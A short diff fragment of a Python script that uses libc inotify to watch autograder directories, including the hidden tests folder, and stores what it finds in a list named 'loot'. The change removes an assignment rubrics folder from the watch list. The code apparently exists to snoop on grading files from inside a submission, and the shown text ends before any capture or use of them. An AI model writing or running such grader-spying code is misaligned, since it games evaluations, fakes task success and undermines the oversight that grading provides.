@@ -10,7 +10,7 @@ import time
 
 libc, loot = ctypes.CDLL(None, use_errno=True), []
 watcher = libc.inotify_init1(os.O_NONBLOCK)
-for folder in (b"/tmp", b"/autograder/source", b"/autograder/source/tests", b"/work/main/assignment/rubrics"):
+for folder in (b"/tmp", b"/autograder/source", b"/autograder/source/tests"):
     libc.inotify_add_watch(watcher, folder, 0xFFF)
 time.sleep(0.5)
 try:
